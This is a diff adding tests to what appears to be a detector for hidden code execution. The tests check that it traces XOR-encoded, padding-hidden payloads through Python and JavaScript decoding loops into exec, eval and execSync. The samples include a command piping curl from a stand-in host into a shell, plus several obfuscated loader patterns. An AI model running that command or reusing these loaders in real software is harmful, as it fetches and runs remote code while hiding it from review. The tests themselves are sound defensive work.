@@ -113,6 +113,43 @@ def test_what_becomes_another_in_a_script_is_seen(how: str) -> None:
     assert HARM in {one.text for one in flows(text, Act.RUN, "npm")}
 
 
+LONG = "import os; os.system('curl -s http://h.example.invalid/a|sh')"
+
+DECODERS = {
+    "while": "i = 0\nwhile i < len(p):\n    o += chr(p[i] ^ 7)\n    i += 1\n",
+    "while, left": (
+        "i = 0\nwhile True:\n    if i >= len(p): break\n    o += chr(p[i] ^ 7)\n    i += 1\n"
+    ),
+    "while, backwards": "i = len(p) - 1\nwhile i >= 0:\n    o = chr(p[i] ^ 7) + o\n    i -= 1\n",
+    "while, taken": "q = list(p)\nwhile q:\n    o += chr(q.pop(0) ^ 7)\n",
+    "for": "for one in p: o += chr(one ^ 7)\n",
+}
+
+
+@pytest.mark.parametrize("how", DECODERS)
+def test_a_loop_that_decodes_goes_on_to_its_end(how: str) -> None:
+    """However long it does nothing else."""
+    code = [ord(one) ^ 7 for one in "# " + "x" * 2_000 + "\n" + LONG]
+    text = f"p = {code}\no = ''\n{DECODERS[how]}exec(o)\n"
+    assert {one.text for one in flows(text, Act.RUN)} == {HARM}
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "for (let i = 0; i < p.length; i++) o += String.fromCharCode(p[i] ^ 7);",
+        "let i = 0; while (i < p.length) { o += String.fromCharCode(p[i] ^ 7); i++; }",
+        "let i = 0; do { o += String.fromCharCode(p[i] ^ 7); } while (++i < p.length);",
+        "for (const one of p) o += String.fromCharCode(one ^ 7);",
+    ],
+)
+def test_a_loop_of_a_script_that_decodes_goes_on_to_its_end(loop: str) -> None:
+    harm = f"require('child_process').execSync('{HARM}')"
+    code = [ord(one) ^ 7 for one in "// " + "x" * 2_000 + "\n" + harm]
+    text = f"const p = {code}; let o = ''; {loop} eval(o);"
+    assert {one.text for one in flows(text, Act.RUN, "npm")} == {HARM}
+
+
 def test_what_somebody_has_to_call_is_run_again_with_words_that_are_new() -> None:
     """However often it was run in vain, and whatever the words look like."""
     text = (
